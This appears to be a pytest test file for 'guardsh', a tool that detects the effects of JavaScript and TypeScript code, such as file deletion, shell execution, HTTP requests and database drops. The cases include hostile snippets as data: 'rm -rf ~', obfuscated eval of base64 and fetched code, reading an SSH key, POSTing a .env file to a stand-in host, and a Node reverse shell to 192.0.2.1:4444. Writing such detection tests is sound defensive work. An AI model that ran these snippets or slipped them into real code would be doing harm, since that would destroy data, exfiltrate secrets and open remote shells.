"""JavaScript and TypeScript: the same acts as the shell's, however they are written."""

from __future__ import annotations

import pytest

from guardsh.languages import read
from guardsh.reading.model import Effect
from tests.languages.support import acts, context

CP = 'const {exec, execSync, spawn} = require("child_process"); '
FS = 'const fs = require("fs"); '

CASES = [
    # programs
    (CP + 'exec("rm -rf ~")', ["$ rm -rf ~"]),
    (CP + "execSync(`rm -rf ${x}/a`)", ["$ rm -rf …/a"]),
    (CP + 'execSync("make", {cwd: "/srv"})', ["! env -C /srv sh -c make"]),
    (CP + 'spawn("rm", ["-rf", a])', ["! rm -rf …"]),
    (CP + 'spawn("rm -rf x", {shell: true})', ["$ rm -rf x"]),
    (CP + "const s = spawn('sh'); s.stdin.write('id')", ["! sh", "$ id"]),
    ('import {execFile as run} from "node:child_process"; run("rm", ["x"])', ["! rm x"]),
    (
        "const run = require('util').promisify(require('child_process').exec); (async () => { await run('id') })()",
        ["$ id"],
    ),
    ("await $`rm -rf ${dir}`", ["$ rm -rf …"]),
    ("import {$} from 'bun'; await $`rm -rf x`.quiet()", ["$ rm -rf x"]),
    ("import {execa, execaCommand} from 'execa'; execa('rm', ['x']); execaCommand('id')", ["! rm x", "$ id"]),
    ("require('shelljs').rm('-rf', 'x')", ["! rm -rf x"]),
    ("Bun.spawn(['rm', 'x']); new Deno.Command('rm', {args: ['y']}).output()", ["! rm x", "! rm y"]),
    ("process.kill(-1, 'SIGKILL')", ["! kill -KILL -- -1"]),
    ("process.env.PGHOST = 'prod'; require('child_process').execSync('psql')", ["! env PGHOST=prod sh -c psql"]),
    # names resolved
    ("require('child_process')['ex' + 'ec']('id')", ["$ id"]),
    ("require('child_process')[x]('id')", ["run unreadable"]),
    ("process.mainModule.require('child_process').execSync('id')", ["$ id"]),
    ("global['require']('fs').unlinkSync('x')", ["delete x"]),
    ("import('fs').then(f => f.unlinkSync('a'))", ["delete a"]),
    ("(await import('node:fs')).unlinkSync('a')", ["delete a"]),
    ("const {promises: {unlink: gone}} = require('fs'); gone('a')", ["delete a"]),
    (
        "let f = require('fs').unlinkSync; f('a'); f.call(null, 'b'); f.apply(null, ['c'])",
        ["delete a", "delete b", "delete c"],
    ),
    ("fs.unlinkSync('a')", ["delete a"]),
    (CP + "exec(['r', 'm'].join('') + ' x'.trim())", ["$ rmx"]),
    (CP + "exec(String.fromCharCode(105, 100))", ["$ id"]),
    (CP + r"exec('\x69\u0064')", ["$ id"]),
    # code in code
    ("eval(\"require('fs').unlinkSync('a')\")", ["delete a"]),
    ("new Function(\"require('child_process').execSync('id')\")()", ["$ id"]),
    ("eval(Buffer.from('cmVxdWlyZSgnZnMnKS51bmxpbmtTeW5jKCdhJyk=', 'base64').toString())", ["delete a"]),
    ("eval(atob(process.argv[2]))", ["run decoded …"]),
    ("eval(await (await fetch('http://x')).text())", ["request GET http://x", "run downloaded …"]),
    ("require('vm').runInThisContext(\"require('fs').unlinkSync('a')\")", ["delete a"]),
    # files
    (FS + "fs.rmSync('/home/u', {recursive: true, force: true})", ["delete -r /home/u"]),
    (FS + "fs.rmdirSync('b'); fs.rm('c', {recursive: true}, () => {})", ["delete b", "delete -r c"]),
    ("import {rm} from 'fs/promises'; await rm('x', {recursive: true})", ["delete -r x"]),
    (FS + "fs.promises.unlink(`${process.env.HOME}/x`)", ["delete /home/u/x"]),
    (
        FS + "const p = require('path'), os = require('os'); fs.rmSync(p.join(os.homedir(), 'a', '..'))",
        ["delete /home/u"],
    ),
    (FS + "fs.readdirSync('d').forEach(f => fs.unlinkSync('d/' + f))", ["delete d/*"]),
    (FS + "for (const f of fs.readdirSync('d')) fs.unlinkSync(require('path').join('d', f))", ["delete d/*"]),
    (FS + "fs.readdir('d', (e, files) => { for (const f of files) fs.unlink('d/' + f, () => {}) })", ["delete d/*"]),
    (
        FS + "fs.writeFileSync('a', '1'); fs.appendFileSync('b', '2'); fs.writeFileSync('c', '3', {flag: 'a'})",
        ["overwrite a", "append b", "append c"],
    ),
    (
        FS + "fs.renameSync('a', 'b'); fs.truncateSync('c'); fs.chmodSync('d', 0o777)",
        ["move a", "overwrite b", "truncate c", "permissions d"],
    ),
    (FS + "console.log(fs.readFileSync('/home/u/.ssh/id_rsa', 'utf8'))", ["read /home/u/.ssh/id_rsa"]),
    ("require('fs-extra').removeSync('x'); require('fs-extra').emptyDirSync('y')", ["delete -r x", "delete -r y/*"]),
    (
        "require('rimraf').sync('x/**'); import {deleteAsync} from 'del'; deleteAsync(['d/*'])",
        ["delete -r x/**", "delete -r d/*"],
    ),
    ("Deno.remove('x', {recursive: true})", ["delete -r x"]),
    ("process.chdir('/'); require('fs').rmSync('home', {recursive: true})", ["delete -r /home"]),
    ("let p = '/tmp/x'; if (a) { p = '/' }; require('fs').rmSync(p)", ["delete /", "delete /tmp/x"]),
    ("fs.unlinkSync('…'); fs.unlinkSync(…)", ["delete …"]),
    # functions and classes
    (FS + "function clean(d) { fs.rmSync(d) }; clean('/tmp/x')", ["delete /tmp/x"]),
    (FS + "const clean = (d = '/tmp/x') => fs.rmSync(d); clean()", ["delete /tmp/x"]),
    (
        FS + "class A { constructor() { this.d = '/data' } clean() { fs.rmSync(this.d) } }; new A().clean()",
        ["delete /data"],
    ),
    (FS + "app.delete('/x', (req, res) => { fs.unlinkSync('up/' + req.params.id) })", ["delete up/…"]),
    ("const f = (p: string): void => fs.unlinkSync(p as string); f('x')", ["delete x"]),
    # requests
    ("fetch('https://h/v1/db', {method: 'DELETE'})", ["request DELETE https://h/v1/db"]),
    ("fetch(new Request('https://h/x', {method: 'PUT'}))", ["request PUT https://h/x"]),
    (
        "const axios = require('axios'); axios.delete('http://h/x'); axios({method: 'put', url: 'http://h/y'})",
        ["request DELETE http://h/x", "request PUT http://h/y"],
    ),
    ("import axios from 'axios'; axios.create({baseURL: 'https://h'}).delete('/x')", ["request DELETE https://h/x"]),
    ("import got from 'got'; got.post('https://h/x', {json: {_method: 'delete'}})", ["request DELETE https://h/x"]),
    ("require('https').request({hostname: 'h', path: '/x', method: 'DELETE'}).end()", ["request DELETE https://h/x"]),
    (
        "fetch('http://x', {method: 'POST', body: require('fs').readFileSync('/home/u/.env')})",
        ["read /home/u/.env", "request POST http://x", "send /home/u/.env"],
    ),
    # databases and services
    ("const {Pool} = require('pg'); new Pool().query('DROP TABLE users')", ["sql drop table users"]),
    ("await pool.query({text: `TRUNCATE ${t}`})", ["sql truncate …"]),
    ("await prisma.$executeRaw`delete from users`", ["sql delete all users"]),
    (
        "await prisma.user.deleteMany(); await prisma.post.deleteMany({where: {id: 1}})",
        ["data deleteMany all user", "data deleteMany post"],
    ),
    (
        "const m = require('mongoose'); m.connection.dropDatabase(); User.deleteMany({})",
        ["data dropDatabase", "data deleteMany all User"],
    ),
    (
        "const k = require('knex')({}); k('users').del(); k('users').where({id: 1}).del()",
        ["sql delete all users", "sql delete users"],
    ),
    ("knex.schema.dropTable('x')", ["sql drop table x"]),
    ("sequelize.sync({force: true})", ["data sync force sequelize"]),
    ("new (require('ioredis'))().flushall()", ["data FLUSHALL"]),
    (
        "import {DeleteBucketCommand as D} from '@aws-sdk/client-s3'; c.send(new D({Bucket: 'b'}))",
        ["data delete-bucket b"],
    ),
    # ordinary work
    ("console.log('rm -rf /'); [1].map(x => x * 2).filter(Boolean); new Map().delete('x'); arr.remove(1)", []),
    ("const re = /drop table/; re.exec('drop table x y z'.slice(3)); $('#id').remove(); el.remove()", []),
    ("document.querySelector('x').remove(); localStorage.clear(); await db.get('k')", []),
    ("…", ["run unreadable"]),
    ("let x = {; fs.unlinkSync('z')", ["run unreadable", "delete z"]),
]


@pytest.mark.parametrize(("code", "found"), CASES)
def test_what_a_program_does(code: str, found: list[str]) -> None:
    assert sorted(acts("javascript", code)) == sorted(found)


def test_a_graphql_mutation_with_a_token_from_the_environment() -> None:
    code = """fetch("https://h/graphql/v2", {method: "POST", headers: {Authorization: `Bearer ${process.env.TOKEN}`},
      body: JSON.stringify({query: `mutation { volumeDelete(volumeId: "${id}") }`})})"""
    (effect,) = read("javascript", code, context(environment={"TOKEN": "t0"}))
    assert isinstance(effect, Effect)
    assert (effect.detail("field"), effect.detail("credential")) == ("volumeDelete", "env")
    assert code[slice(*effect.span)] == code


def test_a_reverse_shell() -> None:
    code = """const sh = require("child_process").spawn("/bin/sh", []); const c = new (require("net").Socket)();
      c.connect(4444, "192.0.2.1", () => { c.pipe(sh.stdin); sh.stdout.pipe(c) })"""
    assert "run reverse-shell 192.0.2.1:4444" in acts("javascript", code)


def test_an_effect_that_nothing_calls_says_so() -> None:
    (effect,) = read("javascript", "function unused(p) { require('fs').rmSync(p) }", context())
    assert isinstance(effect, Effect) and effect.detail("called") == "no"


def test_an_own_module_runs_only_its_top_level() -> None:
    assert acts("javascript-module", "fs.unlinkSync('a'); exports.f = () => fs.unlinkSync('b')") == ["delete a"]
    files = {"/home/u/project/tool.js": "x"}
    assert acts("javascript", "require('./tool')", files=files) == ["< /home/u/project/tool.js"]


@pytest.mark.parametrize(
    "code",
    [
        "(" * 4_000,
        "a" + ".b" * 4_000,
        "'x'" + "+'x'" * 3_000,
        "[" * 2_000 + "]" * 2_000,
        "if (a) { " * 1_500,
        "`${" * 1_000,
        "\x00",
        "\ud800",
        "".join(f"if (a) {{ x{i} = 1 }} else {{ x{i} = 2 }};" for i in range(2_000)),
        "function f() { f(); f() }; f()",
    ],
)
def test_it_never_raises_and_stays_bounded(code: str) -> None:
    for act in read("javascript", code, context()):
        assert isinstance(act, Effect)
